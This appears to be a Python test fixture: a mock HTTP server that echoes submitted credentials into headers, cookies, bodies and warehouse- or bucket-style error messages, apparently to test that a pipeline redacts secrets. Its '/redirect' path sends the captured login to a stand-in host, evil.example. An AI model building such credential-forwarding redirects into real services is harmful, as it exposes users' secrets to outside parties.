"""An API that says back whatever it is told, in every place where an answer can say something."""

from base64 import b64decode
from html import escape
from urllib.parse import parse_qsl, quote

from okr_pipeline_tests.connectors.http.server import Reply, Seen, json_reply, reply
from okr_pipeline_tests.secrets.canaries import CANARIES


class EchoServer:
    """Gives the same tokens to everybody; `/error` and the other paths say the login back."""

    def __call__(self, seen: Seen) -> Reply:
        told = _told(seen)
        headers = {
            "X-Echo": quote(told, safe=" +/=:@&"),
            "RateLimit": f'"{quote(told)}";r=5',
            "Set-Cookie": f"login={quote(told)}",
        }
        tokens = {"access_token": CANARIES["api access"], "refresh_token": CANARIES["api rotated"], "expires_in": 3600}
        said = f"you sent {told} as {seen.target} {dict(seen.headers)} {seen.body.decode()}"
        answers = {
            "/token": json_reply(tokens, headers=headers),
            "/redirect": reply(302, b"", {**headers, "Location": f"https://evil.example/?login={quote(told)}"}),
            "/keys": json_reply([{told: 1}], headers=headers),
            "/period": json_reply([{"period": told, "value": 1}], headers=headers),
            "/value": json_reply([{"period": "2026-01-28", "value": told}], headers=headers),
            "/page": reply(200, f"{{{told}".encode(), headers),
        }
        return answers.get(seen.path) or _as_drivers_read_it(seen, said) or reply(400, said.encode(), headers)


def _as_drivers_read_it(seen: Seen, said: str) -> Reply | None:
    """A refusal in the form that a warehouse or a bucket has for it, which its driver shows."""
    if seen.path == "/session/v1/login-request":
        return json_reply({"success": False, "code": "390100", "message": said, "data": {}})
    if {"x-amz-date", "x-ms-version"} & seen.headers.keys():
        login = escape(" ".join(filter(None, (seen.headers.get("x-amz-security-token"), seen.params.get("sig")))))
        error = f"<Error><Code>InvalidToken</Code><Message>{login} {escape(said)}</Message></Error>"
        headers = {"Content-Type": "application/xml", "x-ms-error-code": "InvalidToken"}
        return reply(403, b"" if seen.method == "HEAD" else error.encode(), headers)
    return None


def _told(seen: Seen) -> str:
    """The login alone, as it was meant."""
    form = dict(parse_qsl(seen.body.decode()))
    kind, _, value = seen.headers.get("authorization", "").partition(" ")
    if kind == "Basic":
        value = b64decode(value).decode().partition(":")[2]
    given = (seen.headers.get("x-api-key"), seen.params.get("api_key"), value, form.get("assertion"))
    more = (form.get("refresh_token"), form.get("client_secret"))
    return " ".join(filter(None, (*given, *more)))
